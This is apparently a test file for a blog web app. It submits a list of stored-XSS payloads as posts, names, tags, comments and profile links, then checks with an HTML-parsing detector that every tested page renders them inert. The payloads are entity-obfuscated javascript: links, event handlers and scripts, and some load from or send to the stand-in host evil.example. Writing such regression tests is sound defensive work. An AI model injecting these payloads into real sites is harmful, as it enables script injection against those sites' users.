import { Parser } from 'htmlparser2';
import request from 'supertest';
import { createTestApp, TestApp } from '../support/create-test-app';
import { csrfFrom } from '../support/forms';
import { writeMembers } from '../support/members';
import { signInAs } from '../support/sessions';

/** Known stored-XSS payloads (OWASP's cheat sheet and friends), raw and in Markdown. */
const PAYLOADS = [
  '<script>alert("xss-1")</script>',
  '<ScRiPt src="https://evil.example/x.js"></ScRiPt>',
  '<img src=x onerror="alert(\'xss-2\')">',
  '<body onload=alert("xss-3")>',
  '<svg/onload=alert("xss-4")>',
  '<svg><script>alert("xss-5")</script></svg>',
  '<a href="javascript:alert(\'xss-6\')">click</a>',
  '<a href="JaVaScRiPt:alert(\'xss-7\')">click</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(\'xss-8\')">click</a>',
  '<a href="jav&#x09;ascript:alert(\'xss-9\')">click</a>',
  '[click](javascript:alert("xss-10"))',
  '[click](&#x6A;avascript:alert("xss-11"))',
  '![img](javascript:alert("xss-12"))',
  '![img](x" onerror="alert(\'xss-13\'))',
  '<iframe src="javascript:alert(\'xss-14\')"></iframe>',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgneHNzLTE1Jyk8L3NjcmlwdD4="></object>',
  '<div style="background-image: url(javascript:alert(\'xss-16\'))">x</div>',
  '"><script>alert("xss-17")</script>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert("xss-18")></style></mglyph></table></mtext></math>',
  '<details open ontoggle=alert("xss-19")>',
  '<input autofocus onfocus=alert("xss-20")>',
  '[click](javascript&colon;alert("xss-21"))',
  '[click](<javascript:alert("xss-22")>)',
  '[reference][xss23]\n\n[xss23]: javascript:alert("xss-23")',
  '<javascript:alert("xss-24")>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgneHNzLTI1Jyk8L3NjcmlwdD4=">click</a>',
  '<svg><a xlink:href="javascript:alert(\'xss-26\')"><text>click</text></a></svg>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(\'xss-27\')">',
  '<form action="javascript:alert(\'xss-28\')"><button>go</button></form>',
  '<button formaction="javascript:alert(\'xss-29\')">go</button>',
  '<style>@import "https://evil.example/xss-30.css";</style>',
  '<link rel="stylesheet" href="https://evil.example/xss-31.css">',
  '<a href="  javascript:alert(\'xss-32\')">click</a>',
  '<a href="java\nscript:alert(\'xss-33\')">click</a>',
  '<a href="vbscript:msgbox(\'xss-34\')">click</a>',
  "<IMG SRC=javascript:alert('xss-35')>",
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(\'xss-36\')">click</a>',
  '<noscript><p title="</noscript><img src=x onerror=alert(\'xss-37\')>"></noscript>',
  '<template><script>alert("xss-38")</script></template>',
  '![img](https://ok.example/a.png"onerror="alert(\'xss-39\'))',
  '[click](https://ok.example "title\\" onmouseover=\\"alert(\'xss-40\')")',
  '</textarea><script>alert("xss-41")</script>',
  '<base href="https://evil.example/">',
];

/**
 * Parses the page as a browser would (htmlparser2, entities decoded) and fails on anything that
 * could run: a script other than our own assets, an element that executes or embeds (svg, iframe,
 * object, embed, math), any `on…` event attribute, a `style` attribute, or a script/data URL.
 */
function assertInert(html: string): void {
  const problems: string[] = [];
  const parser = new Parser(
    {
      onopentag(name, attributes) {
        if (name === 'script' && !(attributes.src ?? '').startsWith('/assets/')) {
          problems.push(`<script> ${JSON.stringify(attributes)}`);
        }
        if (['svg', 'iframe', 'object', 'embed', 'math', 'base', 'style', 'template'].includes(name)) {
          problems.push(`<${name}>`);
        }
        if (name === 'meta' && 'http-equiv' in attributes) {
          problems.push(`<meta http-equiv>`);
        }
        // Our own stylesheets and links are same-site paths or the configured base URL; nothing else.
        if (name === 'link' && !/^(\/|http:\/\/127\.0\.0\.1\/)/.test(attributes.href ?? '')) {
          problems.push(`<link ${JSON.stringify(attributes)}>`);
        }
        if (name === 'form' && !(attributes.action ?? '').startsWith('/')) {
          problems.push(`<form ${JSON.stringify(attributes)}>`);
        }
        // Our own buttons may send their form elsewhere on the site (the editor's Preview); nothing else may.
        if ('formaction' in attributes && !/^\/[^/]/.test(attributes.formaction)) {
          problems.push(`<${name} formaction="${attributes.formaction}">`);
        }
        for (const [attribute, value] of Object.entries(attributes)) {
          const compact = [...value]
            .filter((char) => char.charCodeAt(0) > 0x20)
            .join('')
            .toLowerCase();
          if (attribute.startsWith('on') || ['style', 'srcdoc'].includes(attribute)) {
            problems.push(`<${name} ${attribute}="${value}">`);
          }
          if (
            ['href', 'src', 'action', 'formaction', 'data', 'xlink:href'].includes(attribute) &&
            /^(javascript|vbscript|data):/.test(compact)
          ) {
            problems.push(`<${name} ${attribute}="${value}">`);
          }
        }
      },
    },
    { decodeEntities: true, lowerCaseAttributeNames: true },
  );
  parser.write(html);
  parser.end();
  expect(problems).toEqual([]);
}

describe('Stored XSS', () => {
  let t: TestApp;

  beforeAll(async () => {
    t = await createTestApp();
  });
  afterAll(() => t.close());

  it('has a check that catches live markup', () => {
    expect(() => assertInert('<p><img src=x onerror=alert(1)></p>')).toThrow();
    expect(() => assertInert('<a href="&#106;avascript:alert(1)">x</a>')).toThrow();
    expect(() => assertInert('<meta http-equiv="refresh" content="0;url=https://evil.example">')).toThrow();
    expect(() => assertInert('<style>body{}</style>')).toThrow();
    expect(() => assertInert('<form action="javascript:alert(1)"></form>')).toThrow();
    expect(() => assertInert('<p>&lt;img src=x onerror=alert(1)&gt;</p>')).not.toThrow();
    expect(() => assertInert('<form method="post" action="/blog/x/comments"></form>')).not.toThrow();
    expect(() => assertInert('<button formaction="javascript:alert(1)">go</button>')).toThrow();
    expect(() => assertInert('<button formaction="//evil.example/steal">go</button>')).toThrow();
    expect(() => assertInert('<button formaction="/admin/posts/preview">Preview</button>')).not.toThrow();
  });

  it('keeps every payload inert in posts, titles, tags and comments', async () => {
    const staff = await signInAs(t, { role: 'staff', name: '<img src=x onerror=alert("name")>' });
    await staff.agent
      .post('/admin/posts')
      .type('form')
      .send({
        _csrf: staff.csrfToken,
        title: '<script>alert("title")</script> Payloads',
        slug: 'payloads',
        bodyMarkdown: PAYLOADS.join('\n\n'),
        excerpt: '<img src=x onerror=alert("excerpt")>',
        tags: '<script>, onload=alert(1)',
        coverImageUrl: 'https://img.example/x.png" onerror="alert(1)',
        action: 'publish',
      })
      .expect(303);
    // Every payload as a comment (five each: the rate limit), by members whose names are payloads too.
    for (let start = 0; start < PAYLOADS.length; start += 5) {
      const commenter = await signInAs(t, {
        role: 'member',
        name: `"><svg onload=alert("commenter-${start}")>`,
        membership: { tier: 'associate', state: 'active', entitlements: ['comment'] },
      });
      for (const payload of PAYLOADS.slice(start, start + 5)) {
        await commenter.agent
          .post('/blog/payloads/comments')
          .type('form')
          .send({ _csrf: commenter.csrfToken, body: payload })
          .expect(303);
      }
    }
    // A guest's payloads (name and text), approved by staff so they are on the page.
    await staff.agent
      .post('/admin/comments/settings')
      .type('form')
      .send({ _csrf: staff.csrfToken, guestComments: 'on' })
      .expect(303);
    const guest = request.agent(t.app.getHttpServer());
    const guestForm = await guest.get('/blog/payloads').expect(200);
    await guest
      .post('/blog/payloads/comments')
      .type('form')
      .send({
        _csrf: csrfFrom(guestForm.text),
        name: '<img src=x onerror=alert("guest")>',
        email: 'guest@example.test',
        body: '<script>alert("guest-body")</script>',
      })
      .expect(303);
    const queue = await staff.agent.get('/admin/comments').expect(200);
    assertInert(queue.text);
    const pendingId = /id="pending-([a-f0-9]{24})"/.exec(queue.text)![1];
    await staff.agent
      .post(`/admin/comments/${pendingId}/approve`)
      .type('form')
      .send({ _csrf: staff.csrfToken })
      .expect(303);
    // A refused comment comes back in its form: the echoed text must stay inert too.
    const refused = await guest
      .post('/blog/payloads/comments')
      .type('form')
      .send({
        _csrf: csrfFrom(guestForm.text),
        name: '"><script>alert("name-echo")</script>',
        email: 'not-an-address',
        body: PAYLOADS.join('\n'),
      })
      .expect(422);
    assertInert(refused.text);
    expect(refused.text).toContain('&lt;/textarea&gt;&lt;script&gt;alert(&quot;xss-41&quot;)');
    // A LinkedIn address stored oddly on the author's record never becomes a live link.
    await writeMembers(t, (members) =>
      members.updateOne(
        { _id: staff.member._id },
        { $set: { profile: { linkedinUrl: 'javascript:alert("linkedin")' }, pictureUrl: 'javascript:alert(1)' } },
      ),
    );
    await request(t.app.getHttpServer())
      .post('/blog/payloads/comments')
      .type('form')
      .send({ body: '<script>alert("csrf")</script>' })
      .expect(403);

    for (const path of [
      '/blog/payloads',
      '/',
      '/feed.xml',
      '/sitemap.xml',
      '/search?q=payloads',
      `/authors/${String(staff.member._id)}`,
    ]) {
      const response = await request(t.app.getHttpServer()).get(path).expect(200);
      assertInert(response.text);
    }
    const page = await request(t.app.getHttpServer()).get('/blog/payloads').expect(200);
    // The text is still there, escaped, so readers see what was written.
    // (Comments pass sanitize-html, which leaves quotes in text as they are: inert outside attributes.)
    expect(page.text).toMatch(/&lt;script&gt;alert\((&quot;|")xss-1(&quot;|")\)&lt;\/script&gt;/);
    expect(page.text).toContain('&lt;script&gt;alert(&quot;title&quot;)&lt;/script&gt; Payloads');
    const moderation = await staff.agent.get('/admin/comments').expect(200);
    assertInert(moderation.text);
    expect(page.text).toMatch(/&lt;img src=x onerror=alert\((&quot;|")guest(&quot;|")\)&gt;/);
    const admin = await staff.agent.get('/admin/posts').expect(200);
    assertInert(admin.text);
    const edit = await staff.agent
      .get(`/admin/posts/${/\/admin\/posts\/([a-f0-9]{24})\/edit/.exec(admin.text)![1]}/edit`)
      .expect(200);
    assertInert(edit.text);
  });
});
